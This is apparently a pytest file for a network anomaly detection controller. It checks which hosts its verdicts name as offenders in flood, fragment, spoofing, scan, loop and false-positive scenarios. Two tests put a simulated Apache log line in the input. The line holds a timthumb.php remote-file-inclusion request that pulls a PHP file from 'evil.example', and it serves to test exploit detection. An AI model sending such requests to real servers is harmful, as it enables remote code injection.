"""The situations of the design as records in and verdicts out: who is named, how soon, and who is not."""

import json
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest

from controller.domain.address import prefix_of
from controller.domain.estate import Estate, Expected
from controller.domain.rulebook import Rulebook
from controller.domain.verdict import Finding, Level, TrafficClass, Verdict, Witness
from controller.domain.wire import DecisionNote
from tests.streams.world import (
    CORE,
    EDGE,
    EDGE2,
    EVERYBODY,
    FIREWALL,
    GATEWAY_MAC,
    LOGS,
    OUTSIDE,
    SECOND,
    SHARED_IF,
    START,
    TICK,
    UPLINK_IF,
    Bench,
    flood,
    frame,
    inbound,
    mac,
    of,
    record,
    sent,
    site,
    warm,
)

END = START + 6 * SECOND


def accused(verdicts: list[Verdict], least: Level = Level.WATCH) -> set[str]:
    """Whom the verdicts call an offender."""
    return {
        str(verdict.subject) for verdict in verdicts if verdict.finding is Finding.OFFENDER and verdict.level >= least
    }


def first(verdicts: list[Verdict], subject: str, level: Level) -> Verdict:
    return next(verdict for verdict in of(verdicts, subject) if verdict.level >= level)


def background(seconds: float = 6.0) -> list[dict[str, Any]]:
    return [
        one
        for address in EVERYBODY
        for one in flood(address, seconds=seconds, bits_per_s=47_000, proto="TCP", tcp_flags=24)
    ]


# 1: saturation from a shared port


def test_container_at_two_thousand_times_its_normal_is_named_within_a_second() -> None:
    verdicts = warm().run([*background(), *flood("198.18.0.51")], until_ns=END)
    assert accused(verdicts) == {"198.18.0.51"}
    verdict = first(verdicts, "198.18.0.51", Level.ISOLATE)
    assert verdict.tick_end_ns - verdict.first_bad_ns <= SECOND
    (evidence,) = verdict.evidence
    assert evidence.detector == "flood_ratio"
    assert evidence.facts["ratio"] == pytest.approx(1967, rel=0.02)
    assert "47.0 kbit/s" in evidence.text
    assert "times its own normal" in evidence.text
    assert (verdict.exporter, verdict.interface, verdict.mac) == (EDGE, SHARED_IF, mac(51))
    assert verdict.peers == (OUTSIDE,)


def test_a_loud_flood_is_named_by_its_first_whole_tick_and_a_moment_of_noise_by_none() -> None:
    """Sampled one in 64: 26 samples in a tick bound a rate well enough, where the flood is three times the limit."""
    limit = replace(Rulebook(1).detectors.flood, packets_per_s=2_000.0)
    rules = replace(Rulebook(1), detectors=replace(Rulebook(1).detectors, flood=limit))
    loud = {"packets": 1, "bytes": 300, "sampling_rate": 64}
    begun = START + TICK * 2 // 5
    flooding = [record(begun + at * SECOND * 64 // 6_700, "198.18.0.51", **loud) for at in range(300)]
    verdict = first(Bench(rules=rules).run(flooding, until_ns=END), "198.18.0.51", Level.ISOLATE)
    assert verdict.tick_end_ns == START + 2 * TICK
    brief = [record(START + at * SECOND * 64 // 3_300, "198.18.0.51", **loud) for at in range(14)]
    assert accused(Bench(rules=rules).run(brief, until_ns=END), Level.ISOLATE) == set()


def test_without_a_warm_up_the_same_flood_is_missed_and_says_that_the_baseline_is_too_young() -> None:
    verdicts = Bench().run([*background(), *flood("198.18.0.51")], until_ns=END)
    assert accused(verdicts) == set()
    texts = [evidence.text for verdict in of(verdicts, "198.18.0.51") for evidence in verdict.evidence]
    assert any("baseline too young" in text for text in texts)


def test_that_a_baseline_is_too_young_is_said_now_and_then_while_it_lasts_and_no_longer() -> None:
    """Everybody who is loud hears of it in the first hours: it is worth a sentence, and not one a second."""
    loud = flood("198.18.0.51", seconds=70.0)
    said = of(Bench().run(loud, until_ns=START + 100 * SECOND), "198.18.0.51")
    notes = [one.tick_end_ns for one in said if any("too young" in evidence.text for evidence in one.evidence)]
    apart = [(late - early) // SECOND for early, late in pairwise(notes)]
    assert len(notes) == 3
    assert set(apart) == {30}
    assert all(one.level is Level.CLEAR for one in said)
    assert notes[-1] < START + 74 * SECOND


def test_flood_of_a_sampled_exporter_is_named_within_five_seconds() -> None:
    sampled = [
        record(START + tick * TICK + number * 1_000_000, "198.18.0.7", sampling_rate=1000)
        for tick in range(20)
        for number in range(2)
    ]
    verdicts = warm().run(sampled, until_ns=END)
    verdict = first(verdicts, "198.18.0.7", Level.ISOLATE)
    assert verdict.tick_end_ns - START <= 5 * SECOND


def test_two_samples_prove_nothing() -> None:
    samples = [record(START + number, "198.18.0.7", sampling_rate=10_000) for number in range(2)]
    assert accused(warm().run(samples, until_ns=END)) == set()


def test_exploit_request_and_flood_add_up_on_one_host() -> None:
    bench = warm()
    line = (
        f"<30>Nov 14 22:13:20 h20 apache2: {OUTSIDE} - - [14/Nov/2023:22:13:20 +0000] "
        '"GET /wp-content/themes/x/timthumb.php?src=http://evil.example/blogger.com.php HTTP/1.1" 200 12 "-" "curl"'
    )
    message = json.dumps({"message": line, "fromhost-ip": "198.18.0.20"})
    bench.feed(message.encode(), source=LOGS, origin="logs/0", kafka_ns=START)
    verdicts = bench.run(flood("198.18.0.20"), until_ns=END)
    worst = max(of(verdicts, "198.18.0.20"), key=lambda verdict: verdict.score)
    assert {evidence.detector for evidence in worst.evidence} == {"flood_ratio", "web_exploit"}
    assert any(evidence.compromise for evidence in worst.evidence)
    assert worst.score > 95


def test_flood_is_dated_by_its_own_first_record_and_not_by_the_request_that_led_to_it() -> None:
    bench = warm()
    line = (
        f'{OUTSIDE} - - [14/Nov/2023:22:13:20 +0000] "GET /a/timthumb.php?src=http://evil.example/x.php HTTP/1.1" 200 1'
    )
    message = json.dumps({"message": line, "fromhost-ip": "198.18.0.20"}).encode()
    bench.feed(message, source=LOGS, origin="logs/0", kafka_ns=START)
    verdicts = bench.run(flood("198.18.0.20", begin_ns=START + 2 * SECOND, seconds=2), until_ns=END)
    said = of(verdicts, "198.18.0.20")
    assert said[0].first_bad_ns == START
    assert said[-1].first_bad_ns == START + 2 * SECOND + 10_000_000


# 2: fragments nobody counts


def fragments(src: str, *, seconds: float = 5.0, per_s: int = 20_000) -> list[dict[str, Any]]:
    return flood(
        src, seconds=seconds, bits_per_s=per_s * 92 * 8, octets=92, fragment_offset=185, ip_flags=1, src_port=31337
    )


def complaint(text: str, sender: str = FIREWALL) -> bytes:
    return json.dumps({"msg": text, "fromhost-ip": sender, "programname": "kernel"}).encode()


FULL = "nf_conntrack: nf_conntrack: table full, dropping packet"


def test_fragments_are_named_and_explain_what_the_firewall_suffers_from() -> None:
    bench = warm()
    bench.feed(
        complaint(FULL),
        source=LOGS,
        origin="logs/0",
        kafka_ns=START + 1,
    )
    verdicts = bench.run([*background(), *fragments("198.18.2.1")], until_ns=END)
    assert accused(verdicts) == {"198.18.2.1"}
    verdict = max(of(verdicts, "198.18.2.1"), key=lambda one: one.score)
    detectors = {evidence.detector: evidence for evidence in verdict.evidence}
    assert detectors["fragments"].traffic is TrafficClass.FRAGMENTS
    assert detectors["attribution"].witness is Witness.DEVICE
    assert detectors["attribution"].facts["rank"] == 1
    assert verdict.explains
    assert verdict.explains[0].startswith("fw1: ")
    assert first(verdicts, "198.18.2.1", Level.ISOLATE).tick_end_ns - START <= SECOND
    assert verdict.rates.fragments == pytest.approx(20_000, rel=0.05)


def test_the_first_verdict_says_the_rate_of_the_tick_that_proves_it() -> None:
    """Not a quarter of it, which is what the last second had: the port's counters would contradict that."""
    verdicts = warm().run([*background(), *flood("198.18.0.7")], until_ns=START + SECOND)
    verdict = first(verdicts, "198.18.0.7", Level.ISOLATE)
    assert verdict.tick_end_ns - START < SECOND, "not yet a second of it"
    assert verdict.rates.bits == pytest.approx(92.4e6, rel=0.02)


def test_symptom_without_a_cause_says_so_once_its_window_has_passed() -> None:
    bench = warm()
    bench.feed(
        complaint(FULL),
        source=LOGS,
        origin="logs/0",
        kafka_ns=START + 1,
    )
    verdicts = bench.run(background(), until_ns=START + 130 * SECOND, step_ns=SECOND)
    said = [verdict for verdict in verdicts if verdict.finding is Finding.NO_NETWORK_CAUSE]
    assert [str(verdict.subject) for verdict in said] == [FIREWALL]
    assert accused(verdicts) == set()


# 3: a busy night with nothing wrong


def test_host_that_answers_a_syn_flood_is_a_victim() -> None:
    records = []
    for tick in range(20):
        at = START + tick * TICK + 10_000_000
        syns = {"proto": "TCP", "tcp_flags": 2, "bytes": 3000 * 60, "packets": 3000, "dst_port": 80}
        records.append(inbound(at, "198.18.0.20", **syns))
        answers = {"proto": "TCP", "tcp_flags": 0x12, "bytes": 3000 * 60, "packets": 3000, "src_port": 80}
        records.append(record(at, "198.18.0.20", **answers))
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == set()
    assert {verdict.finding for verdict in of(verdicts, "198.18.0.20")} == {Finding.VICTIM}


def test_host_flooded_from_outside_that_says_nothing_is_a_victim() -> None:
    records = [
        inbound(START + tick * TICK + number, "198.18.0.9", src=f"203.0.113.{number}", bytes=100_000, packets=200)
        for tick in range(20)
        for number in range(1, 40)
    ]
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == set()
    assert {verdict.finding for verdict in of(verdicts, "198.18.0.9")} == {Finding.VICTIM}


def test_backup_in_its_window_is_expected_and_outside_of_it_is_not() -> None:
    window = Expected("backup", (prefix_of("198.18.0.8/32"),), (prefix_of("198.18.0.19/32"),))
    night = warm(estate=Estate(site(expected=(window,))))
    wanted = night.run(flood("198.18.0.8", dst="198.18.0.19", bits_per_s=2e9), until_ns=END)
    assert accused(wanted) == set()
    assert {verdict.finding for verdict in of(wanted, "198.18.0.8")} == {Finding.EXPECTED}
    elsewhere = warm(estate=Estate(site(expected=(window,)))).run(flood("198.18.0.8", bits_per_s=2e9), until_ns=END)
    assert accused(elsewhere) == {"198.18.0.8"}


def test_speed_test_that_the_other_side_acknowledges_never_passes_watch() -> None:
    up = flood("198.18.0.6", bits_per_s=500e6, proto="TCP", tcp_flags=24)
    back = [
        inbound(
            one["time_received_ns"],
            "198.18.0.6",
            bytes=one["packets"] * 26,
            packets=one["packets"] // 2,
            proto="TCP",
            tcp_flags=16,
        )
        for one in up
    ]
    verdicts = warm().run([*up, *back], until_ns=END)
    assert accused(verdicts, Level.CONTAIN) == set()


SESSION = {"type": "NETFLOW_V9", "proto": "TCP", "tcp_flags": 27, "dst_port": 25, "bytes": 3000, "packets": 9}


def test_newsletter_of_a_mail_server_is_no_offence() -> None:
    records = [
        record(START + tick * TICK + number, "198.18.0.17", dst=f"203.0.113.{number}", **SESSION)
        for tick in range(20)
        for number in range(1, 40)
    ]
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == set()


def test_spam_of_a_host_that_never_sent_mail_is_seen() -> None:
    records = [
        record(START + tick * TICK + number, "198.18.0.6", dst=f"203.0.113.{number}", **SESSION)
        for tick in range(20)
        for number in range(1, 10)
    ]
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == {"198.18.0.6"}
    assert first(verdicts, "198.18.0.6", Level.WATCH).evidence[0].traffic is TrafficClass.MAIL


def test_frames_that_a_loop_brings_back_are_a_loop() -> None:
    records = [
        record(
            START + tick * TICK,
            f"198.18.1.{number}",
            dst="255.255.255.255",
            dst_mac="ff:ff:ff:ff:ff:ff",
            src_mac=mac(100 + number),
            in_if=port,
            packets=2000,
            bytes=2000 * 64,
        )
        for tick in range(20)
        for number in range(1, 6)
        for port in (3, 4)
    ]
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == set()
    assert {verdict.finding for verdict in verdicts} == {Finding.LOOP}


def test_host_whose_own_broadcasts_come_back_elsewhere_is_in_a_loop_and_not_its_cause() -> None:
    everybody = {"dst": "255.255.255.255", "dst_mac": "ff:ff:ff:ff:ff:ff", "packets": 3000, "bytes": 3000 * 80}
    records = [
        record(START + tick * TICK, "198.18.0.7", src_mac=mac(7), in_if=port, **everybody)
        for tick in range(20)
        for port in (7, 8, 9)
    ]
    verdicts = warm().run(records, until_ns=END)
    assert {verdict.finding for verdict in of(verdicts, "198.18.0.7")} == {Finding.LOOP}
    alone = [one for one in records if one["in_if"] == 7]
    assert accused(warm().run(alone, until_ns=END)) == {"198.18.0.7"}


def test_router_that_speaks_for_others_is_a_gateway() -> None:
    records = [
        record(START + tick * TICK, f"192.0.2.{number}", in_if=60, src_mac=mac(254), packets=5000, bytes=5000 * 1000)
        for tick in range(20)
        for number in range(1, 20)
    ]
    verdicts = warm().run([*records, *flood("198.18.0.254", in_if=60, bits_per_s=3e9)], until_ns=END)
    assert accused(verdicts) == set()
    assert {verdict.finding for verdict in verdicts} == {Finding.GATEWAY}


def test_exporter_that_falls_silent_is_reported_and_nobody_is_accused() -> None:
    bench = warm()
    bench.run(background(2), until_ns=START + 2 * SECOND)
    talking = [one for one in background(300) if one["sampler_address"] == EDGE]
    verdicts = bench.run(
        [one for one in talking if one["time_received_ns"] > START + 2 * SECOND][::40],
        until_ns=START + 300 * SECOND,
        step_ns=5 * SECOND,
    )
    assert accused(verdicts) == set()
    assert all(EDGE2 in scorer.silent() for scorer in bench.scorers)
    assert all(EDGE not in scorer.silent() for scorer in bench.scorers)


def test_sampling_rate_that_changes_with_its_counts_accuses_nobody() -> None:
    records = [
        one
        | (
            {"sampling_rate": 100, "packets": max(one["packets"] // 100, 1), "bytes": max(one["bytes"] // 100, 64)}
            if one["time_received_ns"] > START + 3 * SECOND
            else {}
        )
        for one in background()
    ]
    assert accused(warm().run(records, until_ns=END)) == set()


# 4: a sensor gone mad


def test_exporter_that_multiplies_by_a_thousand_is_itself_accused_in_the_evidence() -> None:
    mad = [one | {"bytes": one["bytes"] * 1000, "packets": one["packets"] * 1000} for one in background()]
    verdicts = warm().run(mad, until_ns=END)
    assert len(accused(verdicts, Level.ISOLATE)) > 10
    texts = [evidence.text for verdict in verdicts for evidence in verdict.evidence if evidence.source == EDGE]
    assert any("subjects at once" in text for text in texts)


# 9: a forged sender


def forged(src: Any, **over: Any) -> list[dict[str, Any]]:
    """Guest 51 floods with sources that `src` makes from a number."""
    return [
        record(
            START + tick * TICK + number,
            src(number),
            in_if=SHARED_IF,
            packets=30,
            bytes=30 * 1400,
            **{"src_mac": mac(51)} | over,
        )
        for tick in range(20)
        for number in range(100)
    ]


GUEST = f"{EDGE}#{SHARED_IF}/{mac(51)}"


@pytest.mark.parametrize(
    ("source", "owner"),
    [
        (lambda number: f"192.0.2.{number}", None),
        (lambda _: "198.18.0.52", "198.18.0.52"),
        (lambda _: "198.18.1.1", "198.18.1.1"),
        (lambda _: "198.18.0.18", "198.18.0.18"),
    ],
    ids=["random sources", "a neighbour's", "a customer's", "the DNS server's"],
)
def test_forged_source_names_the_guest_behind_the_port_and_never_the_owner(source: Any, owner: str | None) -> None:
    verdicts = warm().run([*background(), *forged(source)], until_ns=END)
    assert accused(verdicts) == {GUEST}
    verdict = first(verdicts, GUEST, Level.ISOLATE)
    assert verdict.evidence[0].detector == "spoofed_source"
    assert (verdict.exporter, verdict.interface, verdict.mac) == (EDGE, SHARED_IF, mac(51))
    assert owner is None or not of(verdicts, owner)


def test_forged_mac_falls_back_to_the_port() -> None:
    verdicts = warm().run(forged(lambda _: "198.18.0.51", src_mac="02:de:ad:be:ef:00"), until_ns=END)
    assert accused(verdicts) == {f"{EDGE}#{SHARED_IF}"}


def test_frames_that_are_not_ip_are_charged_to_the_port_they_enter_by() -> None:
    frames = forged(lambda _: "", dst_addr="", etype="", proto="", dst_mac=mac(7))
    verdicts = warm().run(frames, until_ns=END)
    assert accused(verdicts) == {GUEST}
    assert {"odd_protocol", "spoofed_source"} <= {e.detector for v in verdicts for e in v.evidence}


def test_our_source_entering_from_outside_charges_nobody() -> None:
    records = [
        record(START + tick * TICK, "198.18.0.7", in_if=UPLINK_IF, src_mac=GATEWAY_MAC, packets=9000, bytes=9000 * 1400)
        for tick in range(20)
    ]
    assert accused(warm().run(records, until_ns=END)) == set()


# vantage points


def test_core_does_not_charge_a_host_whose_own_switch_is_heard() -> None:
    core = {"sampler_address": CORE, "in_if": 1}
    verdicts = warm().run([*background(), *flood("198.18.0.7", **core)], until_ns=END)
    assert accused(verdicts) == set()


def test_core_charges_a_host_whose_own_switch_exports_nothing() -> None:
    records = flood("198.18.3.1", sampler_address=CORE, in_if=1, bits_per_s=3e9)
    verdicts = warm().run(records, until_ns=END)
    assert accused(verdicts) == {"198.18.3.1"}
    assert (of(verdicts, "198.18.3.1")[0].exporter, of(verdicts, "198.18.3.1")[0].interface) == ("", 0)


def test_one_flow_seen_by_two_exporters_counts_once() -> None:
    at_edge = flood("198.18.3.1", sampler_address=CORE, in_if=1, bits_per_s=600e6)
    again = flood("198.18.3.1", sampler_address=CORE, in_if=2, bits_per_s=600e6)
    other = [one | {"sampler_address": EDGE2, "in_if": 0} for one in again]
    assert accused(warm().run([*at_edge, *other], until_ns=END), Level.ISOLATE) == set()


# IPv6


def test_host_that_hops_through_its_own_64_is_one_subject() -> None:
    records = [
        record(
            START + tick * TICK + number,
            f"2001:db8:1:3::{number:x}",
            dst="2001:db8:f::1",
            in_if=3,
            src_mac=mac(3),
            packets=300,
            bytes=300 * 1400,
        )
        for tick in range(20)
        for number in range(2, 90)
    ]
    rules = Rulebook(1)
    verdicts = warm(rules=rules).run(records, until_ns=END)
    assert accused(verdicts) == {"2001:db8:1:3::"}


# what was dropped by a rule, and what is under watch


def test_what_a_rule_drops_is_told_apart_while_the_host_stays_an_offender() -> None:
    dropped = flood("198.18.0.7", out_if=0x40000000 | 258)
    verdicts = warm().run(dropped, until_ns=END)
    worst = first(verdicts, "198.18.0.7", Level.ISOLATE)
    assert worst.level is Level.ISOLATE
    assert worst.rates.bits < 100_000
    assert worst.rates.discarded_bits == pytest.approx(92.4e6, rel=0.05)


def test_subject_under_watch_reports_each_second_until_its_decision_has_ended() -> None:
    bench = warm()
    for scorer in bench.scorers:
        scorer.watch(DecisionNote("d1", "host:198.18.0.7", "enforced", START))
    verdicts = bench.run(background(4), until_ns=START + 4 * SECOND)
    assert [verdict.tick_end_ns for verdict in of(verdicts, "198.18.0.7")] == [START + n * SECOND for n in range(1, 5)]
    for scorer in bench.scorers:
        scorer.watch(DecisionNote("d1", "host:198.18.0.7", "released", START))
    assert of(bench.mark(START + 9 * SECOND), "198.18.0.7") == []


def test_offender_that_stops_is_said_to_have_fallen_below_watch() -> None:
    bench = warm()
    bench.run(flood("198.18.0.7", seconds=2), until_ns=START + 2 * SECOND)
    verdicts = bench.mark(START + 60 * SECOND)
    assert of(verdicts, "198.18.0.7")[-1].level is Level.CLEAR
    assert of(verdicts, "198.18.0.7")[-1].rates.bits < 100_000


def test_flood_teaches_the_baseline_nothing() -> None:
    bench = warm()
    verdicts = bench.run(flood("198.18.0.7", seconds=60), until_ns=START + 60 * SECOND)
    assert of(verdicts, "198.18.0.7")[-1].rates.baseline_bits == pytest.approx(47_000, rel=0.05)


def test_scan_is_named_by_peers_and_a_conversation_with_many_is_not() -> None:
    knocks = [
        record(
            START + tick * TICK + number,
            "198.18.0.6",
            dst=f"203.0.113.{(tick * 40 + number) % 250}",
            proto="TCP",
            tcp_flags=2,
            dst_port=23,
            bytes=60,
        )
        for tick in range(20)
        for number in range(40)
    ]
    talk = [
        one | {"src_addr": "198.18.0.7", "in_if": 7, "src_mac": mac(7), "tcp_flags": 24, "bytes": 900} for one in knocks
    ]
    verdicts = warm().run([*knocks, *talk], until_ns=END)
    assert accused(verdicts) == {"198.18.0.6"}
    assert first(verdicts, "198.18.0.6", Level.WATCH).evidence[0].detector == "scan"


def test_sent_is_one_record_a_tick() -> None:
    assert len(sent(START, "198.18.0.7", bits_per_s=1e6)) == 1
    assert frame(sent(START, "198.18.0.7", bits_per_s=1e6)).startswith(b"{")
